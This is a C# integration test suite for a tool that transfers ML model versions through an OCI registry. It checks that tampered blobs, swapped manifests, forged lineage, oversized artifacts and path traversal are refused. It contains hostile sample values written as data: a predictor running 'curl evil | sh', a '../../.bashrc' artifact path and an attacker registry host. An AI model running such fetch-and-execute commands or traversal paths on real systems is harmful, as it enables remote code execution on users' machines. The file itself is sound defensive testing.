using System.Text.Json.Nodes;
using Kiln.Core;
using Kiln.Core.Ledger;

namespace Kiln.Remote.IntegrationTests;

/// <summary>A model version as an OCI artifact in a real registry (Debian's docker-registry on 127.0.0.1): what is pushed
/// comes back byte for byte, and what a hostile registry serves instead is refused with its catalog error, before anything
/// is registered. No engine: the environment image's part is the CLI test's.</summary>
public sealed class ModelTransferTests : IAsyncLifetime
{
    private RegistryServer _registry = null!;
    private readonly TempDir _dir = new();
    private const string Artifact = "weights of the iris model, version 3";

    public async Task InitializeAsync() => _registry = await RegistryServer.StartAsync();

    public async Task DisposeAsync()
    {
        await _registry.DisposeAsync();
        _dir.Dispose();
    }

    private RegistryClient Client() => RegistryClient.Open($"{_registry.Address}/models/iris", allowInsecure: false);

    private static ModelLineage Lineage(string artifact = Artifact) => new(
        new ModelVersion("iris", 3, "models/model.pkl", Digest.Sha256(artifact), artifact.Length, "20261203-010203-abcd", "train",
            Digest.Sha256("stage key"), Digest.Sha256("env image"), new SortedDictionary<string, double> { ["accuracy"] = 0.96 },
            new DateTimeOffset(2026, 12, 3, 1, 2, 3, TimeSpan.Zero), "ana@box"),
        "c0ffee", false, Digest.Sha256("spec"), """{"train":{"C":0.5}}""", """{"project":"iris"}""", "", Digest.Sha256("env manifest"));

    private async Task<Digest> PushAsync(ModelLineage lineage, string tag = "iris-v3", string content = Artifact, string? environmentRepository = null)
    {
        var file = Path.Combine(_dir.Path, Guid.NewGuid().ToString("N"));
        await File.WriteAllTextAsync(file, content);
        using var client = Client();
        return await ModelTransfer.PushAsync(client, tag, lineage with { EnvironmentRepository = environmentRepository ?? client.Where }, file, CancellationToken.None);
    }

    private async Task<ModelTransfer.Head> PullAsync(string tag = "iris-v3", long max = 1 << 20, string? into = null)
    {
        using var client = Client();
        return await ModelTransfer.PullAsync(client, tag, into ?? Path.Combine(_dir.Path, "pulled-" + Guid.NewGuid().ToString("N")), max, CancellationToken.None);
    }

    private async Task<KilnException> RefusedAsync(string tag = "iris-v3", long max = 1 << 20)
    {
        var into = Path.Combine(_dir.Path, "refused-" + Guid.NewGuid().ToString("N"));
        var e = await Assert.ThrowsAsync<KilnException>(() => PullAsync(tag, max, into));
        Assert.False(File.Exists(into)); // nothing of a refused artifact is left behind
        return e;
    }

    /// <summary>Puts a hand-made manifest under a tag: a hostile registry's answer.</summary>
    private async Task PutManifestAsync(string tag, JsonObject manifest)
    {
        using var client = Client();
        await client.PutManifestAsync(tag, System.Text.Encoding.UTF8.GetBytes(manifest.ToJsonString()), RegistryClient.OciManifest, CancellationToken.None);
    }

    private async Task<(JsonObject Manifest, byte[] Config)> PushedManifestAsync(string tag = "iris-v3")
    {
        using var client = Client();
        var (bytes, _) = (await client.GetManifestAsync(tag, 1 << 16, CancellationToken.None))!.Value;
        var manifest = (JsonObject)JsonNode.Parse(bytes)!;
        var config = await client.GetBlobBytesAsync(Digest.Parse(manifest["config"]!["digest"]!.GetValue<string>()), 1 << 20, CancellationToken.None);
        return (manifest, config);
    }

    private async Task<Digest> PutBlobAsync(byte[] bytes)
    {
        using var client = Client();
        await client.PutBlobBytesAsync(bytes, CancellationToken.None);
        return Digest.Sha256(bytes);
    }

    [Fact]
    public async Task APushedVersionComesBackWithItsLineageAndArtifactByteForByte()
    {
        var pushed = await PushAsync(Lineage());
        var into = Path.Combine(_dir.Path, "artifact");
        var head = await PullAsync(into: into);
        Assert.Equal(pushed, head.Manifest);
        Assert.Equal(Artifact, await File.ReadAllTextAsync(into));
        var v = head.Lineage.Version;
        Assert.Equal(("iris", 3, "models/model.pkl", Digest.Sha256(Artifact)), (v.Model, v.Version, v.ArtifactPath, v.ArtifactDigest));
        Assert.Equal(("20261203-010203-abcd", "train", Digest.Sha256("stage key"), Digest.Sha256("env image")), (v.RunId, v.Stage, v.StageKey, v.ImageId));
        Assert.Equal(0.96, v.Metrics["accuracy"]);
        Assert.Equal(("c0ffee", false, Digest.Sha256("spec")), (head.Lineage.GitCommit, head.Lineage.GitDirty, head.Lineage.SpecDigest));
        Assert.Contains("\"C\":0.5", head.Lineage.ParamsJson);
        Assert.Contains("iris", head.Lineage.LockJson);
        Assert.Equal(Digest.Sha256("env manifest"), head.Lineage.EnvironmentManifest);
    }

    [Fact]
    public async Task ATagThatIsNotThereIsKiln5930()
    {
        Assert.Equal("KILN5930", (await RefusedAsync("iris-v99")).Code);
    }

    [Fact]
    public async Task ATamperedArtifactBlobIsRefusedAsADigestMismatch()
    {
        await PushAsync(Lineage());
        // Same length, other bytes: only the hash can tell.
        await File.WriteAllTextAsync(_registry.BlobDataPath(Digest.Sha256(Artifact)), Artifact.ToUpperInvariant());
        Assert.Equal("KILN7923", (await RefusedAsync()).Code);
    }

    [Fact]
    public async Task AManifestNamingAnotherArtifactThanItsLineageIsRefused()
    {
        await PushAsync(Lineage());
        var (manifest, _) = await PushedManifestAsync();
        var other = await PutBlobAsync("a model the attacker prefers"u8.ToArray());
        manifest["layers"]![0]!["digest"] = other.ToString();
        manifest["layers"]![0]!["size"] = 28;
        await PutManifestAsync("iris-v3", manifest);
        var e = await RefusedAsync();
        Assert.Equal("KILN7931", e.Code);
        Assert.Contains(other.ToString(), e.Message);
    }

    [Fact]
    public async Task ALineageRewrittenToNameTheAttackersArtifactIsRefusedByItsDigest()
    {
        // The attacker rewrites the lineage too, but cannot keep the config digest: the manifest still names the old one.
        await PushAsync(Lineage());
        var (manifest, config) = await PushedManifestAsync();
        var forged = System.Text.Encoding.UTF8.GetString(config).Replace(Digest.Sha256(Artifact).ToString(), Digest.Sha256("evil").ToString());
        await File.WriteAllTextAsync(_registry.BlobDataPath(Digest.Parse(manifest["config"]!["digest"]!.GetValue<string>())), forged);
        Assert.Equal("KILN7923", (await RefusedAsync()).Code);
    }

    [Fact]
    public async Task AnArtifactOverTheLimitIsRefusedBeforeItIsDownloaded()
    {
        await PushAsync(Lineage());
        Assert.Equal("KILN7926", (await RefusedAsync(max: Artifact.Length - 1)).Code);
    }

    [Fact]
    public async Task ABlobLongerThanItsDeclaredSizeIsCutOff()
    {
        // Manifest and lineage both declare 10 bytes for an artifact that is longer: at most 10 bytes are read.
        await PushAsync(Lineage());
        var (manifest, config) = await PushedManifestAsync();
        var lineage = JsonNode.Parse(config)!;
        lineage["artifact"]!["size"] = 10;
        var newConfig = System.Text.Encoding.UTF8.GetBytes(lineage.ToJsonString());
        manifest["config"]!["digest"] = (await PutBlobAsync(newConfig)).ToString();
        manifest["config"]!["size"] = newConfig.Length;
        manifest["layers"]![0]!["size"] = 10;
        await PutManifestAsync("iris-v3", manifest);
        Assert.Equal("KILN7926", (await RefusedAsync()).Code);
    }

    [Fact]
    public async Task AnImageOrCacheEntryUnderTheTagIsNotAModel()
    {
        await PushAsync(Lineage());
        var (manifest, _) = await PushedManifestAsync();
        manifest["config"]!["mediaType"] = "application/vnd.oci.image.config.v1+json";
        await PutManifestAsync("iris-v3", manifest);
        var e = await RefusedAsync();
        Assert.Equal("KILN7930", e.Code);
        Assert.Contains("not a Kiln model lineage", e.Message);
    }

    [Fact]
    public async Task ALineageWhoseArtifactPathClimbsOutIsNotAModel()
    {
        await PushAsync(Lineage() with { Version = Lineage().Version with { ArtifactPath = "../../.bashrc" } });
        var e = await RefusedAsync();
        Assert.Equal("KILN7930", e.Code);
        Assert.Contains("not a relative path inside a project", e.Message);
    }

    [Fact]
    public async Task ALineageThatSendsTheEnvironmentPullToAnotherRegistryIsNotAModel()
    {
        // Pulling would make the engine fetch an image from a host the user never named.
        await PushAsync(Lineage(), environmentRepository: "registry.attacker.example/any/thing");
        var e = await RefusedAsync();
        Assert.Equal("KILN7930", e.Code);
        Assert.Contains("registry.attacker.example", e.Message);
    }

    private const string Predictor = "def predict(inputs):\n    return inputs\n";

    private static ModelLineage WithPredictor() => Lineage() with
    {
        Serve = new ModelServeBundle("predict.py", Digest.Sha256(Predictor), Predictor.Length, 2),
    };

    private async Task PushWithPredictorAsync()
    {
        var file = Path.Combine(_dir.Path, Guid.NewGuid().ToString("N"));
        await File.WriteAllTextAsync(file, Artifact);
        using var client = Client();
        await ModelTransfer.PushAsync(client, "iris-v3", WithPredictor() with { EnvironmentRepository = client.Where }, file,
            System.Text.Encoding.UTF8.GetBytes(Predictor), CancellationToken.None);
    }

    private async Task FetchPredictorAsync(ModelLineage lineage, string into)
    {
        using var client = Client();
        await ModelTransfer.FetchPredictorAsync(client, lineage, into, CancellationToken.None);
    }

    [Fact]
    public async Task APredictorTravelsWithTheVersionByteForByte()
    {
        await PushWithPredictorAsync();
        var head = await PullAsync();
        Assert.Equal(WithPredictor().Serve, head.Lineage.Serve);
        var (manifest, _) = await PushedManifestAsync();
        Assert.Equal(ModelTransfer.PredictorMediaType, manifest["layers"]![1]!["mediaType"]!.GetValue<string>());
        var into = Path.Combine(_dir.Path, "predictor");
        await FetchPredictorAsync(head.Lineage, into);
        Assert.Equal(Predictor, await File.ReadAllTextAsync(into));
    }

    [Fact]
    public async Task ARegistryThatAnswersOtherBytesForThePredictorIsRefused()
    {
        await PushWithPredictorAsync();
        var head = await PullAsync();
        // Same length, other bytes: a predictor that would run the attacker's code. Only the hash can tell.
        await File.WriteAllTextAsync(_registry.BlobDataPath(Digest.Sha256(Predictor)), Predictor.Replace("return inputs", "os._exit(666)"));
        var into = Path.Combine(_dir.Path, "predictor");
        var e = await Assert.ThrowsAsync<KilnException>(() => FetchPredictorAsync(head.Lineage, into));
        Assert.Equal("KILN7923", e.Code);
        Assert.False(File.Exists(into));
    }

    [Fact]
    public async Task AManifestNamingAnotherPredictorThanItsLineageIsRefused()
    {
        await PushWithPredictorAsync();
        var (manifest, _) = await PushedManifestAsync();
        var hostile = "import os; os.system('curl evil | sh')"u8.ToArray();
        var other = await PutBlobAsync(hostile);
        manifest["layers"]![1]!["digest"] = other.ToString();
        manifest["layers"]![1]!["size"] = hostile.Length;
        await PutManifestAsync("iris-v3", manifest);
        Assert.Equal("KILN7931", (await RefusedAsync()).Code);
    }

    [Fact]
    public async Task APredictorLayerTheLineageDoesNotNameOrTheOtherWayRoundIsNotAModel()
    {
        await PushWithPredictorAsync();
        var (manifest, _) = await PushedManifestAsync();
        var withoutPredictor = (JsonObject)manifest.DeepClone();
        ((JsonArray)withoutPredictor["layers"]!).RemoveAt(1);
        await PutManifestAsync("iris-v3", withoutPredictor);
        Assert.Contains("does not carry", (await RefusedAsync()).Message);

        await PushAsync(Lineage(), tag: "plain");
        var (plain, _) = await PushedManifestAsync("plain");
        ((JsonArray)plain["layers"]!).Add(manifest["layers"]![1]!.DeepClone());
        await PutManifestAsync("plain", plain);
        Assert.Contains("does not name", (await RefusedAsync("plain")).Message);

        ((JsonArray)plain["layers"]!).Add(manifest["layers"]![1]!.DeepClone()); // three layers
        await PutManifestAsync("plain", plain);
        Assert.Equal("KILN7930", (await RefusedAsync("plain")).Code);
    }
}
